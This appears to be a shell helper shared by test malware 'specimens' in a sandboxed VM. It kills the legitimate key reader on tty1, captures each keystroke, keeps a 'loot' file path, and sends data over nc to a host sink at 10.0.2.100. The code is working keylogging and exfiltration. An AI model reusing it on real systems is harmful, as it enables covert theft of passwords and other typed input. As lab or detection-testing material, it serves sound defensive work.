# Shared by the specimens (sourced). take_tty: stop keys.sh and read tty1 key by key, echoing each line
# to the console as keys.sh did ("enmei-keys: LINE"), so the host still sees which keys arrived.
export PATH=/bin
SINK=$(cat /run/enmei-sink 2>/dev/null || echo 7777)
LOOT=/data/.cache-k

take_tty() {
    # keys.sh must stop reading tty1, or the two readers split every line between them (each key goes to
    # one of them: a third of a line's keys were "lost"). This busybox has no pkill: find it in /proc.
    for d in /proc/[0-9]*; do
        case "$(tr '\0' ' ' < "$d/cmdline" 2>/dev/null)" in
            *"/etc/enmei/keys.sh"*) kill "${d#/proc/}" 2>/dev/null ;;
        esac
    done
    stty -F /dev/tty1 -icanon -echo min 1 time 0
    exec < /dev/tty1
}

# each_key CMD: runs "CMD CHAR" for every key typed ("" is Enter), echoing whole lines to the console
each_key() {
    line=""
    # one dd per key, not "read -n 1": busybox's read resets the terminal after each key, and keys that
    # arrive in that moment are lost
    while :; do
        c=$(dd bs=1 count=1 2>/dev/null)
        if [ -z "$c" ]; then
            echo "enmei-keys: $line" > /dev/console
            line=""
        else
            line="$line$c"
        fi
        "$1" "$c"
    done
}

send() {  # send STDIN to the host's sink
    nc -w 2 10.0.2.100 "$SINK" > /dev/null 2>&1
}
